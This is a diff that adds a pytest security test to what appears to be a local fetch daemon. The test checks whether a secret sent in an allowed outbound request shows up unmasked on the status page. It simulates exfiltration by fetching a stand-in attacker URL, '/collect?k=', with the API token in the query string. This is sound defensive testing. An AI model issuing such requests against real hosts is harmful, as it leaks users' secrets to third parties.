@@ -344,3 +344,24 @@ async def test_raw_html_hiding_spellings_are_caught(tmp_path: Path, technique: s
     assert body["ok"] and body["source"] == "http", body.get("error")
     shown = [c for c in body["chunks"] if "Zebra marker" in c["text"]]
     assert all("hidden_text" in c["flags"] for c in shown), "passed off as visible: " + str([c["flags"] for c in shown])
+
+
+# ----------------------------------------------------------------------------------------------- status page
+@pytest.mark.xfail(strict=True, reason="R12 (low): an exit let through (allowed host) is masked in the exits table "
+                                       "but its full URL, secret included, is in the status page's recent requests "
+                                       "(capabilities.base.execute masks the recorded URL only on a refusal)")
+async def test_a_let_through_exit_does_not_put_the_secret_on_the_status_page(tmp_path: Path,
+                                                                              attacker: Server) -> None:
+    (tmp_path / "secrets.md").write_text(f"# Keys\n\nThe payment API key is {TOKEN} and it must stay private.\n")
+    settings = daemon_settings(tmp_path, allow_private_hosts=True, exit_allow_hosts=("127.0.0.1",))
+    async with RunningDaemon(settings, warm=False) as d:
+        assert (await fetch(d, str(tmp_path / "secrets.md")))["ok"]
+        assert (await fetch(d, f"{attacker.url}/collect?k={TOKEN}"))["ok"]  # the user allowed this host
+        async with httpx.AsyncClient(base_url=d.url, headers={"Authorization": f"Bearer {d.token}"}) as c:
+            status = (await c.get("/v1/status")).text
+            link = (await c.post("/v1/login-code")).json()["url"]
+        async with httpx.AsyncClient(follow_redirects=True, timeout=30) as browser:
+            html = (await browser.get(link)).text
+    assert "let through" in html
+    assert TOKEN not in status, "the secret is in /v1/status"
+    assert TOKEN not in html, "the secret is on the status page"
